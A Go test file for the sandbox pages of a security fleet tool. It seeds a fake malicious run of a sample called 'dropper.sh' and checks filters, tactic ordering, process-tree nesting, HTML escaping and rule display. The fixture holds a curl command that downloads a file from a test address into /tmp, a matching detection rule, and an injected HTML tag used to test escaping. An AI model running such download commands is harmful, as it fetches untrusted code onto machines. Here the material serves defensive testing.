package web_test

import (
	"context"
	"net/http"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/quarry-sec/quarry/fleet/store"
	"github.com/quarry-sec/quarry/telemetry"
)

// seedSandbox enrolls a host and stores two runs as the host reports
// them; it returns the host.
func seedSandbox(t testing.TB, f *fleet) *store.Host {
	t.Helper()
	ctx := context.Background()
	now := time.Now().Truncate(time.Second)
	h := &store.Host{NodeKey: "ks", HostIdentifier: "lab-1", Hostname: "lab-1.local", Family: "linux", EnrolledAt: now, LastSeen: now}
	if err := f.st.EnrollHost(ctx, h); err != nil {
		t.Fatal(err)
	}
	at := now.Add(-10 * time.Minute)
	node := func(key, parent string, depth int, pid int64, path, cmd, sev string, techs ...string) store.IncidentNode {
		return store.IncidentNode{ProcessKey: key, ParentKey: parent, Depth: depth, PID: pid, Path: path, Cmdline: cmd,
			Start: at.Add(time.Duration(depth) * time.Second), HitCount: int64(len(techs)), Severity: sev, Techniques: techs}
	}
	bad := store.SandboxRun{
		SandboxRun: telemetry.SandboxRun{ID: "run-bad", Origin: "detonate", Host: "lab-1", Sample: "dropper.sh",
			SHA256: strings.Repeat("a", 64), Size: 120, Started: at, Duration: 1500 * time.Millisecond, Verdict: "malicious",
			Score: 9, Techniques: []string{"T1033", "T1059.004", "T1105"}, Tactics: []string{"TA0011", "TA0002", "TA0007"}},
		Tree: []store.IncidentNode{
			node("k-bwrap", "", 0, 1, "/usr/bin/bwrap", "bwrap --unshare-all", ""),
			node("k-sh", "k-bwrap", 1, 2, "/bin/sh", "sh /tmp/sample", "medium", "T1059.004"),
			node("k-curl", "k-sh", 2, 3, "/usr/bin/curl", "curl -o /tmp/x http://198.18.0.1/x <b>", "high", "T1105"),
			node("k-id", "k-sh", 2, 4, "/usr/bin/id", "id", "low", "T1033"),
		},
		Files:   []telemetry.SandboxFile{{Path: "/tmp/x", Actions: []string{"write"}, Process: "/usr/bin/curl", SHA256: strings.Repeat("b", 64), Size: 3}},
		Network: []telemetry.SandboxDestination{{Kind: "connect", Dest: "198.18.0.1:80", Process: "/usr/bin/curl"}},
		Rules: []telemetry.SandboxRule{{ID: "r1", Title: "Download with curl to tmp", Source: "sigma", Author: "Florian",
			Licence: "DRL 1.1", Severity: "high", Description: "Curl writes a file to /tmp", Recommendations: "Block 198.18.0.1",
			Techniques: []string{"T1105"}, Hits: 1}},
		Reported: now,
	}
	clean := store.SandboxRun{SandboxRun: telemetry.SandboxRun{ID: "run-clean", Origin: "detonate", Host: "lab-1",
		Sample: "hello.sh", Started: at.Add(-time.Hour), Verdict: "clean", Techniques: []string{}, Tactics: []string{}}, Reported: now}
	if err := f.st.AppendLogs(ctx, h.ID, &store.LogBatch{SandboxRuns: []store.SandboxRun{bad, clean}}); err != nil {
		t.Fatal(err)
	}
	return h
}

// TestSandboxPages: the Sandbox list (filters) and a run page with its
// verdict, tactics in matrix order, its tree nested parent → child with
// technique badges, its files, network and rules.
func TestSandboxPages(t *testing.T) {
	f := newFleet(t)
	h := seedSandbox(t, f)
	c := client(t)
	signIn(t, c, f.srv.URL, f.token)
	rowLinks := regexp.MustCompile(`class="rowlink" href="/sandbox/[^/"]+/([^"]+)"`)
	for _, tc := range []struct {
		query string
		want  []string
	}{
		{"", []string{"run-bad", "run-clean"}},
		{"verdict=malicious", []string{"run-bad"}},
		{"technique=T1059", []string{"run-bad"}},
		{"host=lab-1&since=30m", []string{"run-bad"}},
		{"verdict=evil", []string{"run-bad", "run-clean"}},
	} {
		resp, body := get(t, c, f.srv.URL+"/sandbox?"+tc.query)
		var got []string
		for _, m := range rowLinks.FindAllStringSubmatch(body, -1) {
			got = append(got, m[1])
		}
		if resp.StatusCode != http.StatusOK || strings.Join(got, ",") != strings.Join(tc.want, ",") || !strings.Contains(body, `href="/sandbox"`) {
			t.Errorf("/sandbox?%s: %s, rows %v, want %v", tc.query, resp.Status, got, tc.want)
		}
		if tc.query == "verdict=evil" && !strings.Contains(body, "bad verdict") {
			t.Errorf("/sandbox?verdict=evil: no error shown")
		}
	}
	resp, body := get(t, c, f.srv.URL+"/sandbox/"+h.ID+"/run-bad")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("run page: %s", resp.Status)
	}
	// Tactics in matrix order: Discovery (TA0007) before Command and
	// Control (TA0011), Execution (TA0002) first.
	chain := body[strings.Index(body, `id="chain"`):]
	if e, d, c2 := strings.Index(chain, "Execution"), strings.Index(chain, "Discovery"), strings.Index(chain, "Command and Control"); !(e >= 0 && e < d && d < c2) {
		t.Errorf("tactics not in matrix order: %d %d %d", e, d, c2)
	}
	graph := body[strings.Index(body, `id="graph"`):strings.Index(body, "<h2>Files</h2>")]
	last := -1
	for _, p := range []string{"bwrap", "sh", "curl"} {
		i := strings.Index(graph, `<span class="pname">`+p+`</span>`)
		if i <= last {
			t.Errorf("graph: %s not nested after its parent", p)
		}
		last = i
	}
	if strings.Count(graph, "<ul>") != 3 || !strings.Contains(graph, "T1105") || !strings.Contains(graph, "sev-high") ||
		!strings.Contains(graph, "&lt;b&gt;") {
		t.Errorf("graph: nesting, badges or escaping wrong:\n%s", graph)
	}
	for _, want := range []string{"Download with curl to tmp", "Recommendations:</b> Block 198.18.0.1", "by Florian", "198.18.0.1:80",
		"bbbbbbbbbbbbbbbb…", `id="verdict">malicious`, "9.0"} {
		if !strings.Contains(body, want) {
			t.Errorf("run page lacks %q", want)
		}
	}
	if resp, _ := get(t, c, f.srv.URL+"/sandbox/"+h.ID+"/no-such-run"); resp.StatusCode != http.StatusNotFound {
		t.Errorf("missing run: %s", resp.Status)
	}
}

// TestSandboxRunInBrowser opens a run page in headless Chromium from the
// Sandbox list and checks the tree (nested processes) and its technique
// badges as drawn.
func TestSandboxRunInBrowser(t *testing.T) {
	ctx := browser(t)
	f := newFleet(t)
	seedSandbox(t, f)
	base := f.srv.URL
	step(t, ctx, "sign in",
		chromedp.Navigate(base+"/sandbox"),
		chromedp.WaitVisible(chromedp.CSS("#token")),
		chromedp.SendKeys(chromedp.CSS("#token"), f.token),
		chromedp.Click(chromedp.CSS("#signin")),
		chromedp.WaitVisible(chromedp.CSS("#sandbox-runs")),
	)
	step(t, ctx, "open the run",
		chromedp.Click(chromedp.CSS(`#sandbox-runs a.rowlink`)),
		chromedp.WaitVisible(chromedp.CSS("#graph")),
	)
	// The processes, each with the path of its ancestors in the tree.
	paths := eval[[]string](t, ctx, `Array.from(document.querySelectorAll('#graph .pname')).map(n => {
  const names = []; for (let li = n.closest('li'); li; li = li.parentElement.closest('li')) names.unshift(li.querySelector('.pname').textContent);
  return names.join('>'); })`)
	if strings.Join(paths, " ") != "bwrap bwrap>sh bwrap>sh>curl bwrap>sh>id" {
		t.Errorf("tree %q", paths)
	}
	badges := eval[[]string](t, ctx, `Array.from(document.querySelectorAll('#graph .node')).map(n =>
  n.querySelector('.pname').textContent + ':' + Array.from(n.querySelectorAll(':scope > .tbadge')).map(b => b.textContent.trim().split(/\s/)[0] + '/' + b.className).join(','))`)
	want := []string{"bwrap:", "sh:T1059.004/", "curl:T1105/", "id:T1033/"}
	if len(badges) != len(want) {
		t.Fatalf("badges %q", badges)
	}
	for i, w := range want {
		if !strings.HasPrefix(badges[i], w) {
			t.Errorf("badges of node %d: %q, want %q…", i, badges[i], w)
		}
	}
	if !strings.Contains(badges[2], "sev-high") {
		t.Errorf("curl's badge %q: want the high severity's colour", badges[2])
	}
	if v := eval[string](t, ctx, `document.getElementById('verdict').textContent`); v != "malicious" {
		t.Errorf("verdict %q", v)
	}
	noHorizontalScroll(t, ctx, "sandbox run")
	screenshot(t, ctx, filepath.Join(artifacts(t), "sandbox-run.png"), "")
}
